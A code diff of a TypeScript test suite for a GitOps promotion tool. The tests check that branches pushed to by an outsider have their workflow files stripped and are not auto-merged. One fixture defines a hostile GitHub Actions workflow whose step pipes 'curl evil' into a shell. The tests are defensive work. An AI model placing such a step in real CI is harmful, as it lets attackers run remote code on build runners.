@@ -9,7 +9,7 @@ import { createClient } from "../../src/github/client.js";
 import { deliver, type DeliveryContext, type DeliveryOptions } from "../../src/github/deliver.js";
 import { GitRepo, type Identity } from "../../src/github/git.js";
 import { startFakeGitHub, type FakeGitHub } from "../support/github-fake.js";
-import { checkout, cloneRepo, deployment, OWNER, REPO } from "./fixture.js";
+import { checkout, checksPending, cloneRepo, deployment, OWNER, pushAsPerson, REPO, warningsOf } from "./fixture.js";
 
 const APP = "ghcr.io/acme/app";
 const API = "ghcr.io/acme/api";
@@ -42,23 +42,8 @@ describe("deliver: a pull-request branch someone else pushed to", () => {
   });
   afterEach(() => fake.close());
 
-  /** A commit by `who` on the pull-request branch (created from main when absent). */
-  const pushToPr = async (files: Record<string, string>, who = mallory) => {
-    const head = (await person.fetch("origin", PR)) ?? (await person.fetch("origin", "main"))!;
-    const writes = Object.entries(files).map(([path, content]) => ({ path, content, mode: "100644" }));
-    const commit = await person.commitTree(await person.writeTree(head, writes), head, "tweak\n", who, who);
-    expect(await person.push("origin", commit, PR)).toBe("pushed");
-  };
-  /** Required checks pending on every pull request: auto-merge is recorded, not done. */
-  const checksPending = () =>
-    fake.inject({
-      operationId: "graphql",
-      times: 100,
-      beforeHandle: async () => {
-        for (const pull of fake.pulls(OWNER, REPO)) if (pull.state === "open" && !pull.autoMerge) await fake.setMergeState(OWNER, REPO, pull.number, "BLOCKED");
-      },
-    });
-  const messages = (result: Awaited<ReturnType<typeof deliver>>) => result.plan.warnings.map((w) => (w.file ? `${w.file}: ${w.message}` : w.message));
+  const pushToPr = (files: Record<string, string>, who = mallory) => pushAsPerson(person, PR, files, who);
+  const pending = () => checksPending(fake);
 
   it("a branch made before the run is rebuilt without its workflows and left open, not merged, whatever merge says", async () => {
     const evil = "on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: 'curl evil | sh' } ] } }\n";
@@ -76,14 +61,14 @@ describe("deliver: a pull-request branch someone else pushed to", () => {
     // A person's edit to a manifest stays on the branch for review, and the body names it.
     expect(await fake.readFile(OWNER, REPO, PR, "api.yaml")).toContain("privileged: true");
     expect(pull!.body).toContain("Also on this branch, from its earlier commits: `api.yaml`.");
-    expect(messages(result)).toEqual([
+    expect(warningsOf(result)).toEqual([
       `.github/workflows/pwn.yml: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
       `pull request #1 is left open for review: ${PR} holds commits by Mallory, and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
     ]);
   });
 
   it("merges a branch that holds only its own pushes: a second image joins the first under auto-merge", async () => {
-    checksPending();
+    pending();
     const first = await deliver(ctx, request(`${APP}:1.1.0`), pr("auto"));
     expect(first.landings[0]!.merge).toBe("auto-merge");
 
@@ -97,14 +82,14 @@ describe("deliver: a pull-request branch someone else pushed to", () => {
   });
 
   it("turns off auto-merge once a person pushed to the branch, and keeps it off for later runs", async () => {
-    checksPending();
+    pending();
     await deliver(ctx, request(`${APP}:1.1.0`), pr("auto"));
     await pushToPr({ "notes.yaml": "by: Mallory\n" });
 
     const second = await deliver(ctx, request(`${API}:2.0.1`), pr("auto"));
     expect(second.landings[0]!.merge).toBe("none");
     expect(fake.pulls(OWNER, REPO)[0]!.autoMerge).toBeNull();
-    expect(messages(second)).toEqual([
+    expect(warningsOf(second)).toEqual([
       `pull request #1 is left open for review, and its auto-merge is turned off: ${PR} holds commits by Mallory, and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
     ]);
 
@@ -124,7 +109,7 @@ describe("deliver: a pull-request branch someone else pushed to", () => {
     expect(result.landings[0]!.changes.map((c) => c.new)).toEqual([`${APP}:1.1.0`]);
     expect(await fake.readFile(OWNER, REPO, PR, "db.yaml")).toContain("postgres:16.4");
     expect(await fake.readFile(OWNER, REPO, PR, CONFIG)).not.toContain("postgres");
-    expect(messages(result)).toContain(
+    expect(warningsOf(result)).toContain(
       `${CONFIG}: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
     );
   });
@@ -139,7 +124,7 @@ describe("deliver: a pull-request branch someone else pushed to", () => {
     const result = await deliver(ctx, { ...request("postgres:9.4"), images: ["postgres:9.4", `${APP}:1.1.0`] }, pr("none"));
     expect(result.landings[0]!.changes.map((c) => c.new)).toEqual([`${APP}:1.1.0`]);
     expect(await fake.readFile(OWNER, REPO, PR, ALT)).toBeUndefined();
-    expect(messages(result)).toContain(
+    expect(warningsOf(result)).toContain(
       `${ALT}: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
     );
   });
